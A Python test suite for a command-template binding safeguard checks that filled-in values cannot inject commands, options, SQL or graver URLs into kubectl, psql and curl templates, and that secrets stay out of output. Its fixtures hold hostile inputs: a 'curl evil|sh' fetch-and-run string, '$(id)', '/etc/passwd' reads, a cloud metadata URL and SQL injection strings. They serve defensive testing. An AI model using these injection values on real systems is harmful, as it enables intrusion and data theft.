"""Values fill holes inside words: none makes a new word, an option, or another command."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sirenbook.model.judgement import Judgement
from sirenbook.playbook.safety import Refused, bind, judge, render, reveal

DELETE = "kubectl delete pod <pod-name> -n agents"


def bound(text: str, **values: str) -> Judgement:
    return bind(judge(text), {k.replace("_", "-"): v for k, v in values.items()} | values)


@pytest.mark.parametrize(
    "value",
    ["--all", "-lapp=api", "--raw=/api/v1/x", "-f/etc/passwd", "", "x; curl evil|sh", "$(id)", "a b", "a\nb",
     "<pod-name>", "Ｘ", "a\0b", "../x", "x/y", "a,b"],
)  # fmt: skip
def test_a_value_that_is_no_name_is_refused(value: str) -> None:
    with pytest.raises(Refused) as refusal:
        bind(judge(DELETE), {"pod-name": value})
    assert "<pod-name>" in str(refusal.value)


@pytest.mark.parametrize("value", ["10; rm", "-1", "1e9", "０", "1.5", ""])
def test_a_number_is_digits(value: str) -> None:
    with pytest.raises(Refused):
        bind(judge("kubectl scale deployment api --replicas=<new-count> -n agents"), {"new-count": value})


@pytest.mark.parametrize("value", ["h -c \\! id", "h;id", "-h", "a b", "h\n", "[::1"])
def test_a_host_is_one_word(value: str) -> None:
    with pytest.raises(Refused):
        bind(judge("pg_isready -h $DB_HOST"), {"DB_HOST": value})


def test_a_value_fills_its_word_and_nothing_else() -> None:
    done = bound(DELETE, pod_name="api-7d9f")
    assert done.run is not None
    assert render(done.run) == "kubectl delete pod api-7d9f -n agents"
    assert done.parameters == ()


def test_without_a_value_nothing_is_bound() -> None:
    with pytest.raises(Refused, match="has no value"):
        bind(judge(DELETE), {})


def test_choices_are_the_playbooks() -> None:
    offered = judge("kubectl get pods -n [prod/staging]")
    assert [p.choices for p in offered.parameters] == [("prod", "staging")]
    with pytest.raises(Refused, match="one of prod, staging"):
        bind(offered, {"prod/staging": "kube-system"})


def test_a_secret_is_filled_in_last_and_not_before() -> None:
    text = 'curl -fsS -H "Authorization: Bearer $API_TOKEN" https://api.example.org/v1/<service>'
    done = bind(judge(text), {"service": "web", "API_TOKEN": "s3cret"})
    assert "s3cret" not in repr(done)
    if done.run is not None:
        assert reveal(done, {"API_TOKEN": "s3cret"}).pipelines[0].stages[0].words[3].spelled.endswith("s3cret")


def test_a_refusal_never_shows_a_secret() -> None:
    with pytest.raises(Refused) as refusal:
        reveal(judge("grep $API_TOKEN"), {"API_TOKEN": "two words"})
    assert "two words" not in str(refusal.value)


@pytest.mark.parametrize("value", ["file:///etc/passwd", "http://169.254.169.254/latest", "gopher://x/1"])
def test_a_secret_address_cannot_make_a_command_graver(value: str) -> None:
    asked = bind(judge("curl -fsS $HEALTH_URL"), {})
    assert asked.risk == "reads"
    with pytest.raises(Refused, match="would change"):
        reveal(asked, {"HEALTH_URL": value})
    assert reveal(asked, {"HEALTH_URL": "https://shop.example/health"}).pipelines


def test_the_kind_of_object_is_judged_again() -> None:
    asked = judge("kubectl get <kind> -n shop -o yaml")
    assert "reveals-secrets" in asked.flags
    assert "reveals-secrets" in bind(asked, {"kind": "secrets"}).flags
    assert "reveals-secrets" not in bind(asked, {"kind": "pods"}).flags


def test_a_value_inside_sql_of_a_command_stays_in_its_string() -> None:
    asked = judge("psql -d shop -c \"select 1 from users where id = '{user_id}' and n = {amount}\"")
    kinds = {p.name: p.kind for p in asked.parameters}
    assert kinds == {"user_id": "id", "amount": "number"}
    for value in ("' or 1=1 --", "x'--", "5--", "$$"):
        with pytest.raises(Refused):
            bind(asked, {"user_id": "7", "amount": value})
    with pytest.raises(Refused):
        bind(asked, {"user_id": "' or 1=1 --", "amount": "5"})
    assert bind(asked, {"user_id": "u-7", "amount": "5"}).risk == "reads"


def test_a_value_of_an_sql_statement_is_the_drivers() -> None:
    asked = judge("update keys set revoked = true where id = '{key_id}' and note like '%{part}%'", "sql")
    assert asked.plan is not None and asked.plan.statement is not None
    assert asked.plan.statement.text == (
        "update keys set revoked = true where id = %(key_id)s and note like ('%%' || %(part)s || '%%')"
    )
    done = bind(asked, {"key_id": "k1", "part": "x"})
    assert done.run is not None and done.run.values == (("key_id", "k1"), ("part", "x"))


@pytest.mark.parametrize(
    "text", ["select * from {table}", "select {column} from a where b = 1", "select interval '{n} days'"]
)
def test_a_hole_that_is_no_value_makes_no_statement(text: str) -> None:
    judged = judge(text, "sql")
    assert judged.plan is None or "%(" in judged.plan.statement.text  # type: ignore[union-attr]


HOSTILE_WORDS = st.text(alphabet="-;|&$`'\"\\ \n\t<>(){}[]*?~#!=/:.,ab0\0é", max_size=12)


@settings(max_examples=400, deadline=None)
@given(
    HOSTILE_WORDS,
    st.sampled_from(["<pod-name>", "{agent_id}", "[SERVICE]", "$DB_HOST", "<count>", "<the-url>", "<path>"]),
)
def test_no_value_ever_changes_the_shape(value: str, spelling: str) -> None:
    asked = judge(f"kubectl get pods {spelling} -n shop | grep {spelling} && cat a")
    assert asked.plan is not None
    try:
        done = bind(asked, {p.name: value for p in asked.parameters})
    except Refused:
        return
    assert done.plan is not None
    before = [len(s.words) for s in asked.plan.stages()]
    assert [len(s.words) for s in done.plan.stages()] == before
    for stage in done.plan.stages():
        for word in stage.words:
            if value and word.spelled == value:
                assert not value.startswith("-")
    assert done.risk == asked.risk
